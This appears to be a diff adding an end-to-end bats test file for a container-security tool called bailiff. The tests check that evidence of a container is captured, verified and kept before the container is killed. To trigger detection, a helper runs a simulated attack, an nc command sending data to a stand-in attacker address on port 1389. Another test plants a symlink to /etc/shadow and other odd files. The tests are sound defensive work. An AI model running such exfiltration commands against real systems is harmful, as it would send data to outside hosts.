@@ -1,0 +1,224 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: Apache-2.0
+# Evidence of a container, kept before the response destroys it.
+
+load story
+# shellcheck source=tests/harness/engine_podman.sh
+source "$E2E_DIR/../harness/engine_podman.sh"
+
+setup_file() {
+  story_open
+  podman_open "$ROOTFS"
+}
+teardown_file() { story_close; }
+teardown() {
+  podman_cli rm --all --force --time 0 >/dev/null || true
+  story_quiet
+}
+
+# contained_evil ID SCRIPT: a container with a writable /tmp and a secret, in
+# which a program runs that is not there any more; then SCRIPT.
+contained_evil() {
+  local id=$1 bundle=$SCRATCH/bundle-$1
+  bundle_make "$bundle" "$ROOTFS" "$id" sh -c "
+    cp /bin/busybox /tmp/sleep; /tmp/sleep 1000 & rm /tmp/sleep; $2"
+  jq '.process.env += ["DB_PASSWORD=hunter2"]
+    | .mounts += [{destination: "/tmp", type: "tmpfs", source: "tmpfs",
+        options: ["nosuid", "nodev", "mode=1777"]}]' \
+    "$bundle/config.json" >"$bundle/config.json.new"
+  mv "$bundle/config.json.new" "$bundle/config.json"
+  bailiff_runc run --bundle "$bundle" "$id"
+}
+unified_of() { echo "$CGROUP2/$RUN_NAME/$1"; }
+attack() { echo "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"; }
+
+# evidence_of ID: waits for the id of the capture its kill's alert names.
+evidence_of() {
+  event "$C2_RULE" ".bailiff.container.id == \"$1\"
+    and .bailiff.evidence != null" || return
+  EVIDENCE=$(service_events | jq -r "select(.rule == \"$C2_RULE\"
+    and .bailiff.container.id == \"$1\") | .bailiff.evidence" | head -n 1)
+  wait_until 20 "the capture" is_complete
+}
+is_complete() {
+  api GET "/v1/evidence/$EVIDENCE" | jq -e '.state == "complete"'
+}
+
+# unpack: exports the capture to its folder, and verifies each member.
+unpack() {
+  UNPACKED=$SCRATCH/unpacked-$EVIDENCE
+  mkdir "$UNPACKED"
+  bailiff_api evidence export "$EVIDENCE" -o "$SCRATCH/$EVIDENCE.tar.zst"
+  tar --zstd -xf "$SCRATCH/$EVIDENCE.tar.zst" -C "$UNPACKED"
+  jq -r '.members[] | "\(.sha256)  \(.name)"' "$UNPACKED/manifest.json" \
+    >"$SCRATCH/sums"
+  (cd "$UNPACKED" && sha256sum --check --strict --quiet "$SCRATCH/sums")
+  # Nothing but files, and none that is not in the manifest.
+  [[ -z $(find "$UNPACKED" ! -type f ! -type d) ]]
+  (($(find "$UNPACKED" -type f | wc -l) == $(wc -l <"$SCRATCH/sums") + 1))
+}
+
+steps_are() {
+  diff <(printf '%s\n' "$@") <(jq -r '.steps[].step' "$UNPACKED/manifest.json")
+}
+
+@test "evidence is kept before the container is killed" {
+  service "$KILL_POLICY"
+  run contained_evil exploited "$(attack)"
+  ((status == 137))
+  evidence_of exploited
+  event "$C2_RULE" ".bailiff.outcome == \"killed\"
+    and .bailiff.evidence == \"$EVIDENCE\""
+  unpack
+  steps_are frozen collected responded
+  jq -e --arg policy "$BLOCK_POLICY" --arg rule "$C2_RULE" '
+    .frozen and .container.id == "exploited" and .trigger.response == "kill"
+    and .trigger.policies == [$policy] and .trigger.rules == [$rule]
+    and .secrets == "masked"' "$UNPACKED/manifest.json"
+  # The program that is not there any more is, as it was.
+  program=$(jq -er '.[] | select(.exe.kept == "deleted") | .exe.member' \
+    "$UNPACKED/processes.json")
+  cmp "$UNPACKED/$program" "$ROOTFS/bin/busybox"
+  jq -e 'length >= 2 and all(.[]; .argv | type == "array")
+    and any(.[]; .files | length > 0)' "$UNPACKED/processes.json"
+  run grep -r hunter2 "$UNPACKED"
+  ((status == 1))
+  grep -q 'DB_PASSWORD=\*\*\*' "$UNPACKED/processes.json"
+  grep -q 'DB_PASSWORD=\*\*\*' "$UNPACKED/oci/config.json"
+  # What happened, as 'bailiff eval' reads it.
+  grep -q "$ATTACKER4" "$UNPACKED/events.jsonl"
+  bailiff eval --rules "$SCRATCH/rules/log4j.rules.yaml" \
+    "$SCRATCH/rules/site-indicators.rules.yaml" \
+    --events "$UNPACKED/events.jsonl" | grep -q "$C2_RULE"
+  jq -e --arg id "$EVIDENCE" 'all(.[]; .bailiff.evidence == $id)' \
+    "$UNPACKED/alerts.json"
+  grep -q . "$UNPACKED"/mounts/* "$UNPACKED"/net/*/tcp
+  [[ -s $UNPACKED/cgroup/cgroup.events && -s $UNPACKED/oci/state.json ]]
+  run bailiff_api evidence
+  says "$EVIDENCE" complete shop
+  metric 'bailiff_captures_total{result="complete"} 1'
+  nothing_left_of exploited
+}
+
+@test "evidence is for root" {
+  service "$KILL_POLICY"
+  run contained_evil exploited "$(attack)"
+  evidence_of exploited
+  [[ -z $(find "$SVC/state/evidence" -perm /077) ]]
+  [[ -z $(find "$SVC/state/evidence" ! -user root) ]]
+  unpack
+  [[ $(stat -c %a "$SCRATCH/$EVIDENCE.tar.zst") == 600 ]]
+  # A file that is there is not written over.
+  run -4 bailiff_api evidence export "$EVIDENCE" -o "$SCRATCH/$EVIDENCE.tar.zst"
+  run -4 bailiff_api evidence export 20200101T000000-00000000 -o "$SCRATCH/none"
+  says "no evidence"
+  [[ ! -e $SCRATCH/none ]]
+  cmp "$SCRATCH/$EVIDENCE.tar.zst" \
+    <(bailiff_api evidence export "$EVIDENCE" -o -)
+}
+
+@test "what a podman container changed is kept, and leads nowhere" {
+  service "$KILL_POLICY"
+  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
+  # shellcheck disable=SC2016 # the container's shell expands
+  podman_run --runtime "$SVC/bailiff-runc" -- --rm --name shop \
+    --network "ns:$SCRATCH/netns/inside" --cap-add MKNOD \
+    registry.example/shop:1.4 sh -c '
+      mkdir -p /srv/x; echo evil >/srv/x/dropped
+      cp /bin/busybox /srv/sleep; /srv/sleep 1000 &
+      ln -s /etc/shadow /srv/link; ln -s ../../.. /srv/up
+      mkfifo /srv/fifo; mknod /srv/null c 1 3
+      echo odd >"/srv/a b
+c"
+      dd if=/dev/zero of=/srv/huge bs=1 count=1 seek=1T 2>/dev/null
+      rm /bin/vi
+      '"$(attack)" || true
+  event "$C2_RULE"
+  evidence_of "$(service_events | jq -r "select(.rule == \"$C2_RULE\")
+    | .bailiff.container.id" | head -n 1)"
+  unpack
+  steps_are frozen collected responded
+  [[ $(<"$UNPACKED/upper/files/srv/x/dropped") == evil ]]
+  [[ $(<"$UNPACKED/upper/files/srv/a%20b%0ac") == odd ]]
+  jq -e 'any(.[]; .path == "/srv/link" and .kind == "link"
+      and .target == "/etc/shadow")
+    and any(.[]; .path == "/srv/fifo" and .kind == "other")
+    and any(.[]; .path == "/srv/null" and .kind == "other")
+    and any(.[]; .path == "/bin/vi" and .kind == "deleted")
+    and any(.[]; .path == "/srv/huge" and .bytes > 1e12)' \
+    "$UNPACKED/upper/index.json"
+  jq -e 'any(.missing[]; .member == "upper/files/srv/huge")' \
+    "$UNPACKED/manifest.json"
+  program=$(jq -er '.[] | select(.exe.kept == "upper layer") | .exe.member' \
+    "$UNPACKED/processes.json")
+  cmp "$UNPACKED/$program" "$ROOTFS/bin/busybox"
+}
+
+@test "a kill that may not wait goes first, and the manifest says so" {
+  service "$KILL_POLICY" "evidence: {limit: 0s}"
+  run contained_evil hurried "$(attack)"
+  ((status == 137))
+  evidence_of hurried
+  unpack
+  jq -e '.steps[0].step == "responded" and .limit_ms == 0' \
+    "$UNPACKED/manifest.json"
+  grep -q "$ATTACKER4" "$UNPACKED/events.jsonl"
+  jq -e '.process.args' "$UNPACKED/oci/config.json"
+}
+
+@test "an operator keeps evidence of a container that goes on" {
+  service "$KILL_POLICY"
+  contained_detached asked sleep 100
+  bailiff_api capture asked --reason "ticket 4711" >"$SCRATCH/said"
+  grep -q 'captured, evidence .* complete' "$SCRATCH/said"
+  EVIDENCE=$(sed 's/.*evidence \([^ ]*\).*/\1/' "$SCRATCH/said")
+  unpack
+  steps_are frozen collected responded
+  jq -e '.trigger.kind == "operator" and .trigger.reason == "ticket 4711"' \
+    "$UNPACKED/manifest.json"
+  event "Operator response" ".bailiff.response == \"capture\"
+    and .bailiff.evidence == \"$EVIDENCE\""
+  [[ $(<"$(unified_of asked)/cgroup.freeze") == 0 ]]
+  [[ $(bailiff_runc state asked | jq -r .status) == running ]]
+  run -4 bailiff_api capture nobody
+  bailiff_runc kill asked KILL
+  wait_until 10 "its end" cgroup_empty "$RUN_NAME/asked"
+  run -4 bailiff_api capture asked
+  says "already gone"
+}
+@test "old evidence goes, and what a crash left is none" {
+  service "$KILL_POLICY" "evidence: {keep_for: 30d, keep_mib: 1}"
+  contained_detached kept sleep 100
+  bailiff_api capture kept >"$SCRATCH/said"
+  old=$(sed 's/.*evidence \([^ ]*\).*/\1/' "$SCRATCH/said")
+  # As if it were large: the next one takes its place.
+  truncate -s 2M "$SVC/state/evidence/$old/capture.tar.zst"
+  bailiff_api capture kept >"$SCRATCH/said"
+  new=$(sed 's/.*evidence \([^ ]*\).*/\1/' "$SCRATCH/said")
+  wait_until 10 "the old one to go" test ! -e "$SVC/state/evidence/$old"
+  [[ -e $SVC/state/evidence/$new ]]
+  service_stop
+  touch -d '31 days ago' "$SVC/state/evidence/$new/capture.tar.zst"
+  mkdir "$SVC/state/evidence/partial-$new"
+  echo half >"$SVC/state/evidence/partial-$new/capture.tar.zst"
+  service_start
+  [[ -z $(ls "$SVC/state/evidence") ]]
+  [[ $(api GET /v1/evidence | jq '.evidence | length') == 0 ]]
+}
+
+@test "what was frozen when bailiffd died goes on, or is killed as decided" {
+  service "$KILL_POLICY"
+  contained_detached thawed sleep 100
+  contained_detached doomed sleep 100
+  service_stop KILL
+  for name in thawed doomed; do
+    cgroup=$(unified_of "$name")
+    echo 1 >"$cgroup/cgroup.freeze"
+    printf '%s %s' "$([[ $name == doomed ]] && echo kill || echo thaw)" \
+      "$(stat -c %i "$cgroup")" >"$SVC/run/frozen/$name"
+  done
+  service_start
+  wait_until 10 "the kill" cgroup_empty "$RUN_NAME/doomed"
+  [[ $(<"$(unified_of thawed)/cgroup.freeze") == 0 ]]
+  [[ -z $(ls "$SVC/run/frozen") ]]
+}
